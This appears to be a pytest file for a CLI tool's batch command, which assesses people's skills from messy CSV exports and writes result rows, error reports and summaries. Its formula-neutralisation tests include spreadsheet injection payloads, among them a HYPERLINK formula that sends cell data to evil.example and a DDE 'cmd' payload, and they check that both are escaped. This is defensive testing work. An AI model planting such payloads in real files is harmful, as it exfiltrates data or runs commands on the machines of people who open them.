"""The `batch` command: many people from a CSV export, one result row per input row.

Run as a user would (the `run` fixture, French by default) on the files of
`tests/fixtures/batch/` (see its README.md), plus property tests on generated messy CSVs
through `run_batch`, the per-run caches against the one-person path, and `process_frame`.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import os
import random
import shlex
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skillmatch.batch import BatchEngine, PersonRow, Summary, output_columns, process_frame
from skillmatch.batchrun import FORMULA_START, BatchOptions, run_batch
from skillmatch.catalogue import default_catalogue_path, load_catalogue
from skillmatch.inputs import split_skills
from skillmatch.messages import translate
from skillmatch.model import Constraints, MatchStatus, Objective
from skillmatch.positioning import assess
from skillmatch.recommend import gap_weights, recommend
from skillmatch.referential import bundled_dir

FIXTURES = Path(__file__).parent / "fixtures" / "batch"
COLUMNS = ["line", "id", "target", "matched", "to_confirm", "unmatched", "level_ia",
           "level_cyber", "coverage", "missing", "formations", "total_cost_eur", "total_hours",
           "residual", "status", "error"]
KEY = "une-clé-de-test-assez-longue-0123"
EXCEL_NAMES = ["Hélène Dupré", "François Lœuvre", "Zoé Müller", "Jérôme Fabre"]
EXCEL_IDS = ["P001", "P002", "P003", "P004"]


def fixture(name: str) -> str:
    return str(FIXTURES / name)


def rows_of(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, delimiter=delimiter))


def header_of(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return next(csv.reader(stream, delimiter=delimiter))


def accounting(read: int, ok: int, errors: int, skipped: int) -> str:
    return translate("batch.accounting", "fr", read=read, ok=ok, errors=errors,
                     skipped=skipped)


def assert_no_traceback(result) -> None:
    assert "Traceback" not in result.stderr
    assert "Traceback" not in result.stdout


# -- one output row per input row, in order ---------------------------------------------------

@pytest.mark.parametrize(("name", "ids", "lines", "skipped"), [
    ("excel_fr_cp1252.csv", EXCEL_IDS, [2, 3, 4, 5], 0),
    ("excel_fr_sep.csv", EXCEL_IDS, [3, 4, 5, 6], 0),
    ("utf8_bom.csv", ["M-01", "M-02", "M-03"], [2, 3, 4], 0),
    ("unicode_text_utf16.txt", ["U01", "U02"], [2, 3], 0),
    ("multiline.csv", ["M1", "M2", "M3", "M4"], [2, 4, 5, 8], 0),
    ("blank_lines.csv", ["L1", "L2"], [3, 6], 5),
])
def test_output_has_one_row_per_input_row_in_order(run, tmp_path, name, ids, lines, skipped):
    out = tmp_path / "out.csv"
    result = run("batch", fixture(name), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert header_of(out) == COLUMNS
    rows = rows_of(out)
    assert [r["id"] for r in rows] == ids
    assert [int(r["line"]) for r in rows] == lines
    assert {r["status"] for r in rows} == {"ok"}
    assert {r["error"] for r in rows} == {""}
    assert accounting(len(ids) + skipped, len(ids), 0, skipped) in result.stderr
    assert result.stdout == ""  # results went to the file
    assert rows_of(Path(f"{out}.errors.csv")) == []


def test_excel_fr_export_values(run, tmp_path):
    out = tmp_path / "out.csv"
    assert run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out)).exit_code == 0
    rows = {r["id"]: r for r in rows_of(out)}
    # Matched skills in the referential's order (whatever the order they were written in).
    assert rows["P001"]["matched"].split("|") == ["anglais", "python", "bases-de-donnees"]
    assert rows["P002"]["matched"].split("|") == ["cryptographie", "securite-reseaux"]
    assert rows["P003"]["matched"].split("|") == ["probabilites", "statistiques"]
    assert [rows[i]["target"] for i in EXCEL_IDS] == ["ia-A", "cyber-A", "", "ia-B"]
    for row in rows.values():
        assert row["level_ia"] in {"none", "ia-A", "ia-B", "ia-C"}
        assert row["level_cyber"] in {"none", "cyber-A", "cyber-B", "cyber-C"}
        assert set(row["matched"].split("|")).isdisjoint(row["missing"].split("|"))


def test_multiline_fields_are_one_row(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("multiline.csv"), "-o", str(out), "--keep", "nom")
    assert result.exit_code == 0, result.stderr
    rows = rows_of(out)
    assert [r["nom"] for r in rows] == ["Durand; Paul", "Petit", "Ligne\nsur\ntrois", "Roux"]
    assert rows[0]["matched"].split("|") == ["anglais", "python", "bases-de-donnees"]
    assert rows[2]["matched"].split("|") == ["statistiques", "r"]
    assert rows[3]["matched"].split("|") == ["python", "git"]


# -- rows in error: the error report, exit codes ----------------------------------------------

BAD_FIXTURES = [
    # file, options, [(line, id, code, params)], ids of the rows read fine
    ("extra_field.csv", (), [(3, "", "batch.field_count", {"expected": 3, "found": 4})],
     ["E1", "E3"]),
    ("nul_byte.csv", (), [(3, "", "batch.nul_byte", {})], ["N1", "N3"]),
    ("unclosed_quote.csv", (), [(3, "", "batch.unclosed_quote", {})], ["Q1", "Q3", "Q4"]),
    ("stray_quote.csv", (), [(3, "", "batch.bad_quote", {})], ["S1", "S3"]),
    ("bad_utf8.csv", ("--encoding", "utf-8"),
     [(3, "", "batch.bad_byte", {"byte": "0xe9", "encoding": "utf-8", "line": 3})], ["B1", "B3"]),
    ("duplicate_ids.csv", (), [(5, "C-3003", "batch.empty_skills", {}),
                               (6, "B-2002", "batch.unknown_target", {"id": "profil-inconnu"})],
     ["A-1001", "B-2002", "A-1001"]),
    ("formulas.csv", (), [(5, "'@risk", "batch.unknown_target", {"id": "=cmd|' /C calc'!A0"}),
                          (6, "'=2+3", "batch.empty_skills", {})],
     ['\'=HYPERLINK("http://evil.example/?x="&A1,"clic")', "'+33612345678", "'-42"]),
]


@pytest.mark.parametrize(("name", "options", "errors", "ok_ids"), BAD_FIXTURES,
                         ids=[b[0] for b in BAD_FIXTURES])
def test_error_report_and_exit_code(run, tmp_path, name, options, errors, ok_ids):
    out = tmp_path / "out.csv"
    result = run("batch", fixture(name), "-o", str(out), *options)
    assert result.exit_code == 5, result.stderr
    assert_no_traceback(result)
    report = rows_of(Path(f"{out}.errors.csv"))
    assert [(int(r["line"]), r["id"], r["code"], r["message"]) for r in report] == [
        (line, ident, code, translate(code, "fr", **params))
        for line, ident, code, params in errors]
    rows = rows_of(out)  # the output is complete even when the exit code is 5
    assert [int(r["line"]) for r in rows] == sorted(int(r["line"]) for r in rows)
    assert [r["id"] for r in rows if r["status"] == "ok"] == ok_ids
    in_error = [(int(r["line"]), r["error"]) for r in rows if r["status"] == "error"]
    assert in_error == [(line, code) for line, _, code, _ in errors]
    for row in rows:
        if row["status"] == "error":
            assert row["level_ia"] == row["level_cyber"] == row["coverage"] == ""
    total = len(ok_ids) + len(errors)
    assert accounting(total, len(ok_ids), len(errors), 0) in result.stderr

    again = run("batch", fixture(name), "-o", str(out), *options, "--allow-errors")
    assert again.exit_code == 0, again.stderr
    assert rows_of(out) == rows
    assert rows_of(Path(f"{out}.errors.csv")) == report


def test_errors_option_puts_the_report_where_asked(run, tmp_path):
    out, report = tmp_path / "out.csv", tmp_path / "rapport.csv"
    result = run("batch", fixture("nul_byte.csv"), "-o", str(out), "--errors", str(report))
    assert result.exit_code == 5
    assert [r["line"] for r in rows_of(report)] == ["3"]
    assert not Path(f"{out}.errors.csv").exists()


def test_bad_utf8_byte_auto_detected_is_an_error_for_that_line_only(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("bad_utf8.csv"), "-o", str(out), "--keep", "nom")
    assert result.exit_code == 5
    rows = rows_of(out)
    assert [(r["line"], r["status"]) for r in rows] == [("2", "ok"), ("3", "error"),
                                                        ("4", "ok")]
    assert rows[0]["nom"] == "Hélène"


@pytest.mark.xfail(strict=True, reason=(
    "bug: a UTF-16 export cut in the middle of a character makes `batch` fail with "
    "'erreur inattendue (UnicodeDecodeError)', exit 1, and no output at all"))
def test_truncated_utf16_export_is_a_row_error_not_a_crash(run, tmp_path):
    source = tmp_path / "cut.txt"
    source.write_bytes((FIXTURES / "unicode_text_utf16.txt").read_bytes() + b"A")
    out = tmp_path / "out.csv"
    result = run("batch", str(source), "-o", str(out))
    assert result.exit_code == 5, result.stderr
    assert [r["id"] for r in rows_of(out) if r["status"] == "ok"] == ["U01", "U02"]


def test_empty_file_is_invalid_data(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("empty.csv"), "-o", str(out))
    assert result.exit_code == 3
    assert_no_traceback(result)
    assert translate("batch.no_header", "fr") in result.stderr
    assert not out.exists()
    assert list(tmp_path.iterdir()) == []


def test_header_only_file_gives_a_header_only_output(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("header_only.csv"), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert out.read_text(encoding="utf-8") == ",".join(COLUMNS) + "\n"
    assert accounting(0, 0, 0, 0) in result.stderr


def test_no_skills_column_is_invalid_data_and_names_the_columns(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("no_skills_column.csv"), "-o", str(out))
    assert result.exit_code == 3
    assert_no_traceback(result)
    assert "Identifiant, Nom, Profil visé" in result.stderr
    assert not out.exists()
    ok = run("batch", fixture("no_skills_column.csv"), "-o", str(out), "--skills-column", "Nom")
    assert ok.exit_code == 0, ok.stderr
    assert [r["id"] for r in rows_of(out)] == ["P1"]


@pytest.mark.parametrize("option", [("--encoding", "latin-9"), ("--encoding", "nope"),
                                    ("--delimiter", ",,")])
def test_bad_encoding_or_delimiter_option_is_a_usage_error(run, tmp_path, option):
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(tmp_path / "o.csv"),
                 *option)
    assert result.exit_code == 2, result.stderr


def test_wrong_forced_encoding_on_the_header_says_it_is_the_encoding(run, tmp_path):
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(tmp_path / "o.csv"),
                 "--encoding", "utf-8")
    assert result.exit_code == 3
    assert "--encoding" in result.stderr


def test_user_named_columns_win(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("utf8_bom.csv"), "-o", str(out), "--id-column", "EMAIL",
                 "--target-column", "Target")
    assert result.exit_code == 0, result.stderr
    assert [r["id"] for r in rows_of(out)] == ["helene.dupre@example.fr",
                                               "zoe.muller@example.fr", "jerome.fabre@example.fr"]
    missing = run("batch", fixture("utf8_bom.csv"), "-o", str(out), "--id-column", "nope")
    assert missing.exit_code == 3


# -- target: default and column ---------------------------------------------------------------


def test_target_column_and_default_target(run, tmp_path):
    out = tmp_path / "out.csv"
    assert run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out)).exit_code == 0
    without = {r["id"]: r for r in rows_of(out)}
    # P003's target cell is empty: no target, so levels only
    assert without["P003"]["target"] == ""
    assert [without["P003"][c] for c in ("coverage", "missing", "formations",
                                         "total_cost_eur", "residual")] == [""] * 5
    assert without["P001"]["formations"] != ""

    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--target", "cyber-B")
    assert result.exit_code == 0, result.stderr
    rows = {r["id"]: r for r in rows_of(out)}
    assert [rows[i]["target"] for i in EXCEL_IDS] == ["ia-A", "cyber-A", "cyber-B", "ia-B"]
    assert rows["P003"]["coverage"] != "" and "c-cpp" in rows["P003"]["missing"].split("|")
    for ident in ("P001", "P002", "P004"):  # the column wins over the default
        assert rows[ident] == without[ident]


def test_unknown_default_target_is_a_usage_error(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--target", "nope")
    assert result.exit_code == 2
    assert_no_traceback(result)
    assert not out.exists()


# -- formats: JSON Lines, Excel ---------------------------------------------------------------


def test_jsonl_parses_line_by_line(run, tmp_path):
    out = tmp_path / "out.jsonl"
    result = run("batch", fixture("duplicate_ids.csv"), "-o", str(out), "--format", "jsonl")
    assert result.exit_code == 5
    lines = out.read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 5
    for record in records:
        assert list(record) == COLUMNS
        assert isinstance(record["line"], int)
        for column in ("matched", "to_confirm", "unmatched", "missing", "formations",
                       "residual"):
            assert isinstance(record[column], list)
    assert [r["line"] for r in records] == [2, 3, 4, 5, 6]
    assert [r["status"] for r in records] == ["ok", "ok", "ok", "error", "error"]
    assert records[3]["error"] == "batch.empty_skills"
    assert records[3]["level_ia"] is None and records[3]["total_cost_eur"] is None
    assert records[0]["matched"] == ["python"]
    assert isinstance(records[0]["total_cost_eur"], int | float)
    csv_out = tmp_path / "out.csv"
    run("batch", fixture("duplicate_ids.csv"), "-o", str(csv_out))
    for record, row in zip(records, rows_of(csv_out), strict=True):
        assert "|".join(record["missing"]) == row["missing"]
        assert "|".join(record["formations"]) == row["formations"]


def test_excel_output_bom_semicolon_crlf(run, tmp_path):
    out, plain = tmp_path / "out.csv", tmp_path / "plain.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--excel")
    assert result.exit_code == 0, result.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfline;id;target;matched;")
    assert data.count(b"\n") == data.count(b"\r\n") == 5
    assert data.endswith(b"\r\n")
    run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(plain))
    def as_plain(rows: list[dict[str, str]]) -> list[dict[str, str]]:  # decimal comma -> point
        return [{k: v.replace(",", ".") if k in ("coverage", "total_cost_eur", "total_hours")
                 else v for k, v in row.items()} for row in rows]

    assert as_plain(rows_of(out, ";")) == rows_of(plain)


@pytest.mark.parametrize("excel", [False, True])
def test_csv_numbers_are_exact(run, tmp_path, excel):
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_bytes(b"id;competences;cible\nP1;python;ia-A\n")
    options = ["--excel"] if excel else []
    result = run("batch", str(source), "-o", str(out), "-c", fixture("catalogue_cents.yaml"),
                 *options)
    assert result.exit_code == 0, result.stderr
    (row,) = rows_of(out, ";" if excel else ",")
    assert row["formations"] == "formation-centimes"
    # --excel: a decimal comma, as French Excel reads numbers in a ";"-separated file
    expected = ("12345,67", "1234567") if excel else ("12345.67", "1234567")
    assert (row["total_cost_eur"], row["total_hours"]) == expected


def test_jsonl_numbers_are_exact(run, tmp_path):
    source, out = tmp_path / "in.csv", tmp_path / "out.jsonl"
    source.write_bytes(b"id;competences;cible\nP1;python;ia-A\n")
    result = run("batch", str(source), "-o", str(out), "-f", "jsonl", "-c",
                 fixture("catalogue_cents.yaml"))
    assert result.exit_code == 0, result.stderr
    record = json.loads(out.read_text(encoding="utf-8"))
    assert (record["total_cost_eur"], record["total_hours"]) == (12345.67, 1234567)


# -- formulas are neutralised -----------------------------------------------------------------


def cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("excel", [False, True])
def test_formula_cells_are_neutralised_in_output_and_error_report(run, tmp_path, excel):
    out = tmp_path / "out.csv"
    options = ["--excel"] if excel else []
    result = run("batch", fixture("formulas.csv"), "-o", str(out), "--keep", "nom", *options)
    assert result.exit_code == 5, result.stderr
    delimiter = ";" if excel else ","
    for path, sep in ((out, delimiter), (Path(f"{out}.errors.csv"), ",")):
        found = cells(path, sep)
        assert found
        assert not [c for c in found if c.startswith(FORMULA_START)], path
    rows = rows_of(out, delimiter)
    assert [r["id"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")', "'+33612345678", "'-42",
        "'@risk", "'=2+3"]
    assert [r["nom"] for r in rows] == ["Dupont", "'=1+2", "'-Durand", "'@Petit", "'\tTab"]
    assert rows[2]["unmatched"] == "'@SUM(A1:A2)"
    assert rows[3]["target"] == "'=cmd|' /C calc'!A0"
    report = rows_of(Path(f"{out}.errors.csv"))
    assert [r["id"] for r in report] == ["'@risk", "'=2+3"]


def test_jsonl_keeps_values_as_written(run, tmp_path):
    """JSON is not opened by spreadsheets: values travel unchanged."""
    out = tmp_path / "out.jsonl"
    run("batch", fixture("formulas.csv"), "-o", str(out), "-f", "jsonl")
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["id"] for r in records] == [
        '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33612345678", "-42", "@risk",
        "=2+3"]


# -- only declared columns travel -------------------------------------------------------------


def test_keep_copies_only_that_column(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--keep", "Nom")
    assert result.exit_code == 0, result.stderr
    assert header_of(out) == [*COLUMNS, "Nom"]
    assert [r["Nom"] for r in rows_of(out)] == EXCEL_NAMES


def test_undeclared_columns_never_reach_the_outputs(run, tmp_path):
    out, summary = tmp_path / "out.csv", tmp_path / "summary.json"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--summary",
                 "--summary-file", str(summary))
    assert result.exit_code == 0
    produced = b"".join(p.read_bytes() for p in tmp_path.iterdir())
    produced += (result.stdout + result.stderr).encode()
    assert "Nom" not in header_of(out)
    for name in EXCEL_NAMES:
        assert name.encode() not in produced
        assert name.split()[1].encode() not in produced

    result = run("batch", fixture("utf8_bom.csv"), "-o", str(out), "-f", "jsonl")
    assert result.exit_code == 0
    data = out.read_bytes()
    assert b"@example.fr" not in data and b"email" not in data
    assert b"@example.fr" not in Path(f"{out}.errors.csv").read_bytes()


def test_keep_of_a_missing_column_is_invalid_data(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--keep", "Email")
    assert result.exit_code == 3
    assert_no_traceback(result)
    assert "Email" in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("name", ["unclosed_quote.csv", "extra_field.csv", "nul_byte.csv"])
def test_keep_on_an_unreadable_row_gives_a_full_row(run, tmp_path, name):
    out = tmp_path / "out.csv"
    kept = "Profil visé" if name == "unclosed_quote.csv" else "cible"
    run("batch", fixture(name), "-o", str(out), "--keep", kept)
    with out.open(encoding="utf-8", newline="") as stream:
        widths = [len(row) for row in csv.reader(stream)]
    assert widths == [len(COLUMNS) + 1] * len(widths)


def test_keep_on_a_row_in_error_with_an_id(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("duplicate_ids.csv"), "-o", str(out), "--keep", "cible")
    assert result.exit_code == 5
    assert [r["cible"] for r in rows_of(out)] == ["ia-A", "cyber-A", "ia-B", "ia-A",
                                                  "profil-inconnu"]


# -- pseudonyms -------------------------------------------------------------------------------

DUPLICATE_IDS = ["A-1001", "B-2002", "A-1001", "C-3003", "B-2002"]


def pseudo(key: str, ident: str) -> str:
    return hmac.new(key.encode(), ident.encode(), hashlib.sha256).hexdigest()


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_pseudonymise_with_the_environment_key(run, tmp_path, fmt):
    out, summary = tmp_path / f"out.{fmt}", tmp_path / "summary.json"
    result = run("batch", fixture("duplicate_ids.csv"), "-o", str(out), "-f", fmt,
                 "--pseudonymise", "--summary", "--summary-file", str(summary),
                 env={"SKILLMATCH_PSEUDONYM_KEY": KEY})
    assert result.exit_code == 5, result.stderr
    if fmt == "csv":
        ids = [r["id"] for r in rows_of(out)]
    else:
        ids = [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert ids == [pseudo(KEY, i) for i in DUPLICATE_IDS]
    assert all(len(i) == 64 and set(i) <= set("0123456789abcdef") for i in ids)
    assert ids[0] == ids[2] and ids[1] == ids[4] and len(set(ids)) == 3
    report = rows_of(Path(f"{out}.errors.csv"))
    assert [r["id"] for r in report] == [pseudo(KEY, "C-3003"), pseudo(KEY, "B-2002")]
    everything = b"".join(p.read_bytes() for p in tmp_path.iterdir())
    everything += (result.stdout + result.stderr).encode()
    for original in set(DUPLICATE_IDS):
        assert original.encode() not in everything
        assert original.split("-")[1].encode() not in everything


def test_pseudonymise_with_stdout_output_keeps_ids_off_stderr(run):
    result = run("batch", fixture("duplicate_ids.csv"), "--pseudonymise",
                 env={"SKILLMATCH_PSEUDONYM_KEY": KEY})
    assert result.exit_code == 5
    for original in set(DUPLICATE_IDS):
        assert original not in result.stdout + result.stderr
    assert pseudo(KEY, "A-1001") in result.stdout


def test_pseudonymise_with_a_key_file(run, tmp_path):
    key_file = tmp_path / "cle.txt"
    key_file.write_text(KEY + "\n", encoding="utf-8")  # a final new line is not part of it
    out = tmp_path / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--pseudonymise",
                 "--pseudonym-key-file", str(key_file))
    assert result.exit_code == 0, result.stderr
    assert [r["id"] for r in rows_of(out)] == [pseudo(KEY, i) for i in EXCEL_IDS]


@pytest.mark.parametrize("env", [{}, {"SKILLMATCH_PSEUDONYM_KEY": ""},
                                 {"SKILLMATCH_PSEUDONYM_KEY": "x" * 15}])
def test_pseudonymise_without_a_long_enough_key_is_a_usage_error(run, tmp_path, env,
                                                                 monkeypatch):
    monkeypatch.delenv("SKILLMATCH_PSEUDONYM_KEY", raising=False)
    out = tmp_path / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out), "--pseudonymise",
                 env=env)
    assert result.exit_code == 2
    assert_no_traceback(result)
    assert "SKILLMATCH_PSEUDONYM_KEY" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_short_key_file_is_a_usage_error(run, tmp_path):
    key_file = tmp_path / "cle.txt"
    key_file.write_text("  court  \n", encoding="utf-8")
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(tmp_path / "o.csv"),
                 "--pseudonymise", "--pseudonym-key-file", str(key_file))
    assert result.exit_code == 2


@pytest.mark.parametrize("option", ["--pseudonym-key", "--key", "--pseudonymise-key"])
def test_the_key_is_never_accepted_on_the_command_line(run, tmp_path, option):
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(tmp_path / "o.csv"),
                 "--pseudonymise", option, KEY)
    assert result.exit_code == 2
    assert not (tmp_path / "o.csv").exists()


def test_no_batch_option_takes_a_key_value():
    import typer.main

    from skillmatch.cli import app

    command = typer.main.get_command(app).commands["batch"]  # type: ignore[attr-defined]
    options = [o for p in command.params for o in getattr(p, "opts", [])]
    assert [o for o in options if "key" in o] == ["--pseudonym-key-file"]


# -- summary ----------------------------------------------------------------------------------


def test_summary_file_balances_and_matches_the_rows(run, tmp_path):
    out, summary_file = tmp_path / "out.csv", tmp_path / "summary.json"
    result = run("batch", fixture("duplicate_ids.csv"), "-o", str(out), "--summary-file",
                 str(summary_file), "--allow-errors")
    assert result.exit_code == 0, result.stderr
    summary = json.loads(summary_file.read_text(encoding="utf-8"))
    assert summary["rows"] == {"read": 5, "ok": 3, "errors": 2, "skipped": 0}
    assert summary["errors"] == {"batch.empty_skills": 1, "batch.unknown_target": 1}
    assert summary["input"] == {"encoding": "utf-8", "delimiter": ";"}
    rows = [r for r in rows_of(out) if r["status"] == "ok"]
    for domain in ("ia", "cyber"):
        counts = summary["levels"][domain]
        assert sum(counts.values()) == 3
        assert counts == dict(Counter(r[f"level_{domain}"] for r in rows))
    assert summary["total_cost_eur"] == pytest.approx(sum(float(r["total_cost_eur"])
                                                          for r in rows))
    missing = Counter(s for r in rows for s in r["missing"].split("|") if s)
    assert {m["skill_id"]: m["people"] for m in summary["most_missing"]} == \
        {s: missing[s] for s in (m["skill_id"] for m in summary["most_missing"])}
    assert [m["people"] for m in summary["most_missing"]] == \
        sorted(missing.values(), reverse=True)[:10]
    formations = Counter(f for r in rows for f in r["formations"].split("|") if f)
    assert {f["formation_id"]: f["people"] for f in summary["most_recommended"]} == \
        {f: formations[f] for f in (m["formation_id"] for m in summary["most_recommended"])}
    if len(formations) <= 10:
        assert sum(f["cost_eur"] for f in summary["most_recommended"]) == \
            pytest.approx(summary["total_cost_eur"])


def test_summary_file_counts_blank_lines(run, tmp_path):
    summary_file = tmp_path / "summary.json"
    result = run("batch", fixture("blank_lines.csv"), "-o", str(tmp_path / "o.csv"),
                 "--summary-file", str(summary_file))
    assert result.exit_code == 0
    summary = json.loads(summary_file.read_text(encoding="utf-8"))
    assert summary["rows"] == {"read": 7, "ok": 2, "errors": 0, "skipped": 5}


def test_summary_table_goes_to_stdout_with_a_file_and_to_stderr_with_stdout(run, tmp_path):
    title = translate("title.summary", "fr", ok=4)
    with_file = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(tmp_path / "o.csv"),
                    "--summary")
    assert title in with_file.stdout and title not in with_file.stderr
    to_stdout = run("batch", fixture("excel_fr_cp1252.csv"), "--summary")
    assert title in to_stdout.stderr and title not in to_stdout.stdout
    assert to_stdout.stdout.startswith(",".join(COLUMNS) + "\n")


# -- atomic output ----------------------------------------------------------------------------


class Interrupting(BatchEngine):
    """An engine stopped (Ctrl-C) while it works on its first chunk of rows, the output
    and the error report being written."""

    seen_parts: list[str]

    def assess_chunk(self, *args, **kwargs):
        self.seen_parts = sorted(p.name for p in self.directory.iterdir()
                                 if p.name.endswith(".part"))
        raise KeyboardInterrupt


@pytest.fixture(scope="module")
def catalogue(referential):
    return load_catalogue(default_catalogue_path(bundled_dir()), referential)


def test_interrupted_run_leaves_the_previous_output_intact(referential, matcher, catalogue,
                                                           tmp_path):
    out = tmp_path / "out.csv"
    out.write_text("previous output\n", encoding="utf-8")
    Path(f"{out}.errors.csv").write_text("previous report\n", encoding="utf-8")
    engine = Interrupting(referential, catalogue, matcher=matcher)
    engine.directory = tmp_path
    options = BatchOptions(input=fixture("excel_fr_cp1252.csv"), output=str(out),
                           engine=engine, chunk_size=1)
    with pytest.raises(KeyboardInterrupt):
        run_batch(options)
    assert len(engine.seen_parts) == 2  # the output and the report were being written aside
    assert out.read_text(encoding="utf-8") == "previous output\n"
    assert Path(f"{out}.errors.csv").read_text(encoding="utf-8") == "previous report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "out.csv.errors.csv"]


def interrupted_cli_run(run, tmp_path, monkeypatch):
    out = tmp_path / "out.csv"
    out.write_text("previous output\n", encoding="utf-8")
    def interrupted(self, *args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(BatchEngine, "assess_chunk", interrupted)
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out))
    assert result.exit_code == 130
    assert_no_traceback(result)
    assert out.read_text(encoding="utf-8") == "previous output\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    return result


def test_interrupted_cli_run_exits_130_and_leaves_no_partial_file(run, tmp_path, monkeypatch):
    interrupted_cli_run(run, tmp_path, monkeypatch)


def test_interrupted_cli_run_says_so(run, tmp_path, monkeypatch):
    result = interrupted_cli_run(run, tmp_path, monkeypatch)
    assert translate("error.interrupted", "fr") in result.stderr


def test_output_in_a_missing_directory_exits_6(run, tmp_path):
    out = tmp_path / "absent" / "out.csv"
    result = run("batch", fixture("excel_fr_cp1252.csv"), "-o", str(out))
    assert result.exit_code == 6
    assert_no_traceback(result)
    assert str(tmp_path / "absent") in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_error_report_in_a_missing_directory_exits_6_without_output(run, tmp_path):
    out = tmp_path / "out.csv"
    result = run("batch", fixture("nul_byte.csv"), "-o", str(out), "--errors",
                 str(tmp_path / "absent" / "errors.csv"))
    assert result.exit_code == 6
    assert list(tmp_path.iterdir()) == []


# -- stdin, stdout, pipes ---------------------------------------------------------------------


def test_stdout_output_has_results_only_and_messages_on_stderr(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("batch", fixture("extra_field.csv"), "-o", "-")
    assert result.exit_code == 5
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["line"], r["id"], r["status"]) for r in rows] == [
        ("2", "E1", "ok"), ("3", "", "error"), ("4", "E3", "ok")]
    where = translate("batch.error_line", "fr", line=3)
    message = translate("batch.field_count", "fr", expected=3, found=4)
    assert result.stderr.splitlines() == [f"{where}: {message}", accounting(3, 2, 1, 0)]
    assert list(tmp_path.iterdir()) == []  # no error report file without an output file


def test_stdin_input(run, tmp_path):
    out, summary = tmp_path / "out.csv", tmp_path / "s.json"
    data = (FIXTURES / "excel_fr_sep.csv").read_bytes()
    result = run("batch", "-", "-o", str(out), "--keep", "Nom", "--summary-file", str(summary),
                 input=data)
    assert result.exit_code == 0, result.stderr
    assert [(r["line"], r["id"], r["Nom"]) for r in rows_of(out)] == [
        (str(n), i, name) for n, i, name in zip((3, 4, 5, 6), EXCEL_IDS, EXCEL_NAMES,
                                                strict=True)]
    assert json.loads(summary.read_text(encoding="utf-8"))["input"] == \
        {"encoding": "cp1252", "delimiter": ";"}


def test_missing_input_exits_4(run, tmp_path):
    result = run("batch", str(tmp_path / "absent.csv"), "-o", str(tmp_path / "o.csv"))
    assert result.exit_code == 4
    assert_no_traceback(result)


def closed_pipe(tmp_path: Path) -> tuple[str, str, str]:
    """`skillmatch batch big.csv | head -1`: head's output, skillmatch's stderr and status."""
    rows = ["Identifiant;Compétences;Profil visé"]
    skills = ["Python, SQL", "cryptographie, git", "R, statistiques, anglais", "pentest"]
    targets = ["ia-A", "cyber-B", "ia-C", ""]
    rows += [f"P{n:05d};{skills[n % 4]};{targets[n % 3]}" for n in range(6000)]
    big = tmp_path / "big.csv"
    big.write_bytes("\r\n".join(rows).encode("cp1252") + b"\r\n")
    program = "import sys; from skillmatch.cli import main; sys.argv[0] = 'skillmatch'; main()"
    command = (f"{shlex.quote(sys.executable)} -c {shlex.quote(program)} batch "
               f"{shlex.quote(str(big))} 2>err.txt | head -1; echo ${{PIPESTATUS[0]}} >rc.txt")
    env = {**os.environ, "SKILLMATCH_LANG": "", "SKILLMATCH_REFERENTIAL": ""}
    env.pop("SKILLMATCH_DEBUG", None)
    done = subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True,
